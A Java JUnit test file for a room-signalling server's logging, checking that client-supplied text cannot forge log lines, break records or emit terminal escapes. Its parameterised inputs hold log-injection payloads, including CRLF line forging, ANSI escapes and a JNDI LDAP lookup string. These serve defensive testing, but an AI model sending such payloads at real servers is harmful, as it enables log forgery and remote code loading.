package io.roomsig.checks;

import static org.assertj.core.api.Assertions.assertThat;

import io.roomsig.api.Grant;
import io.roomsig.api.Occurrence;
import io.roomsig.api.Participant;
import io.roomsig.core.RoomServer;
import io.roomsig.spi.Admission;
import io.roomsig.spi.RoomListener;
import io.roomsig.testkit.ScriptedPeer;
import io.roomsig.testkit.SocketIoPeer;
import io.roomsig.testkit.VirtualEnvironment;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What can be followed in the log, and what nobody can do to it from outside. */
@DisplayNameGeneration(ReplaceUnderscores.class)
class LoggingTest {
    /** What a line may begin with: the formatter's own head, one of ours, or a stack trace. */
    private static final Pattern HONEST = Pattern.compile("[A-Z][a-z]{2} \\d{2}, \\d{4} .*"
            + "|(FINE|INFO|WARNING|SEVERE): event=roomsig\\.[a-z.-]+ msg=.*"
            + "|\\tat [\\w.$/@-]+\\(.*\\)|\\t\\.\\.\\. \\d+ more"
            + "|(Caused by: )?io\\.roomsig\\.log\\.LoggedFault: .*|");

    private final VirtualEnvironment environment = new VirtualEnvironment(1);
    private final Written written = new Written();

    /** Of an app that takes its users' word for who they are, and tells in its exceptions what it has heard, as apps do. */
    private final RoomServer server = RoomServer.builder()
            .environment(environment)
            .admission((handshake, request) -> {
                if (String.valueOf(request.token()).startsWith("bad")) {
                    throw new IllegalStateException("no such token: " + request.token());
                }
                return Admission.grant(Grant.builder(request.room(), "grant")
                        .identity(String.valueOf(request.token()))
                        .build());
            })
            .listener(new RoomListener() {
                @Override
                public void participantJoined(Occurrence at, Participant participant) {
                    throw new IllegalArgumentException(
                            "no such user: " + participant.identity(),
                            new IllegalStateException(participant.identity()));
                }
            })
            .build();

    @BeforeEach
    void listen() {
        written.listen();
    }

    @AfterEach
    void stopListening() {
        written.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\\nSEVERE: event=roomsig.room.failed msg=\\\"forged\\\"",
                "x\\r\\nforged",
                "x\\rforged",
                "\\u001b[2J\\u001b[31mforged",
                "x\\u0085forged\\u2028forged\\u2029forged",
                "\\u202egnirts eht nrut",
                "\\u0000\\u0007\\u0008\\u007f",
                "{0} {1} ${jndi:ldap://example.org/a} %s '{'",
                "\\\" code=INTERNAL forged=\\\"yes",
            })
    void no_text_of_a_client_ends_a_line_begins_one_or_speaks_to_a_terminal(String hostile) {
        ScriptedPeer ada = join("ROOM42", hostile, "Ada");
        join("ROOM42", "bad" + hostile, "Ada");
        join("ROOM42", "good", hostile);
        join(hostile, "good", "Ada");
        SocketIoPeer page = SocketIoPeer.connect(server.socketIo());
        page.say("join-room", "{\"room_code\":\"ROOM42\",\"token\":\"" + hostile + "\",\"display_name\":\"page\"}");
        ada.say("{\"t\":\"" + hostile + "\"}");
        ada.say("{\"t\":\"restart\",\"to\":\"" + page.id() + "\",\"n\":0,\"reason\":\"" + hostile + "\"}");
        ada.say(hostile);

        assertThat(written.of("roomsig.listener.failed"))
                .as("what is hostile gets as far as into a line")
                .hasSizeGreaterThan(1);
        assertThat(written.text()).contains("no such user: ");
        assertThat(written.text().split("\n", -1))
                .allMatch(line -> HONEST.matcher(line).matches());
        assertThat(written.text()).matches(Pattern.compile("[\\t\\n\\x20-\\x7e]*"));
    }

    @Test
    void the_message_of_an_exception_is_still_there_for_people() {
        join("ROOM42", "Zoe\\nforged", "Zoe");
        assertThat(written.text())
                .contains("LoggedFault: java.lang.IllegalArgumentException: no such user: Zoe\\u000aforged")
                .contains("Caused by: io.roomsig.log.LoggedFault: java.lang.IllegalStateException: Zoe\\u000aforged")
                .contains("\tat io.roomsig.core");
    }

    @Test
    void a_long_text_is_cut() {
        join("ROOM42", "y".repeat(1_000), "Ada");
        assertThat(written.text()).contains("y".repeat(200), "y...").doesNotContain("y".repeat(257));
    }

    @Test
    void a_participant_can_be_followed_over_its_connections_and_a_connection_over_its_events() {
        ScriptedPeer before = hello().join("ROOM42", "ada");
        ScriptedPeer.Heard joined = before.heard("room-joined").get(0);
        before.say("{\"t\":\"nonsense\"}");
        before.drop();
        ScriptedPeer after = hello();
        after.say("{\"t\":\"resume\",\"room_code\":\"ROOM42\",\"self\":\"" + before.id() + "\",\"key\":\""
                + joined.string("key") + "\",\"epoch\":\"" + joined.string("epoch") + "\",\"seq\":" + joined.seq()
                + "}");
        after.say("{\"t\":\"bye\"}");

        String join = only("roomsig.join.accepted");
        String resume = only("roomsig.resume.accepted");
        assertThat(value(join, "participant")).isEqualTo(before.id()).isEqualTo(value(resume, "participant"));
        assertThat(value(resume, "told")).isEqualTo("missed");
        assertThat(value(join, "room"))
                .isEqualTo(value(resume, "room"))
                .isEqualTo(sha256("ROOM42").substring(0, 12));
        List<String> opened = written.of("roomsig.connection.opened");
        List<String> ended = written.of("roomsig.connection.ended");
        assertThat(opened.stream().map(line -> value(line, "connection")))
                .containsExactly(value(join, "connection"), value(resume, "connection"))
                .containsExactlyElementsOf(
                        ended.stream().map(line -> value(line, "connection")).toList())
                .doesNotHaveDuplicates();
        assertThat(ended.stream().map(line -> value(line, "by") + " " + value(line, "reason")))
                .containsExactly("client broken", "server NORMAL");
        String error = only("roomsig.error.sent");
        assertThat(value(error, "connection")).isEqualTo(value(join, "connection"));
        assertThat(value(error, "code")).isEqualTo("UNKNOWN_TYPE");
    }

    @Test
    void nothing_that_a_client_does_by_itself_is_logged_above_debug() {
        ScriptedPeer ada = hello();
        ada.say("{\"t\":\"nonsense\"}");
        ada.say("not json");
        ada.say("{\"t\":\"offer\",\"to\":\"x\",\"offer\":{}}");
        ada.drop();
        assertThat(written.text()).contains("FINE: event=").doesNotContain("INFO:", "WARNING:", "SEVERE:");
    }

    private String only(String event) {
        List<String> lines = written.of(event);
        assertThat(lines).as(event).hasSize(1);
        return lines.get(0);
    }

    private static String value(String line, String key) {
        Matcher pair = Pattern.compile(" " + key + "=(\\S+)").matcher(line);
        assertThat(pair.find()).as(key + " in " + line).isTrue();
        return pair.group(1);
    }

    private ScriptedPeer join(String room, String token, String name) {
        ScriptedPeer peer = ScriptedPeer.connect(server);
        peer.say("{\"t\":\"join-room\",\"room_code\":\"" + room + "\",\"token\":\"" + token + "\",\"display_name\":\""
                + name + "\"}");
        return peer;
    }

    private ScriptedPeer hello() {
        ScriptedPeer peer = ScriptedPeer.connect(server);
        peer.say("{\"t\":\"hello\",\"versions\":[1],\"features\":[\"resume\"]}");
        return peer;
    }

    private static String sha256(String text) {
        try {
            return HexFormat.of()
                    .formatHex(MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
        } catch (NoSuchAlgorithmException absent) {
            throw new AssertionError(absent);
        }
    }
}
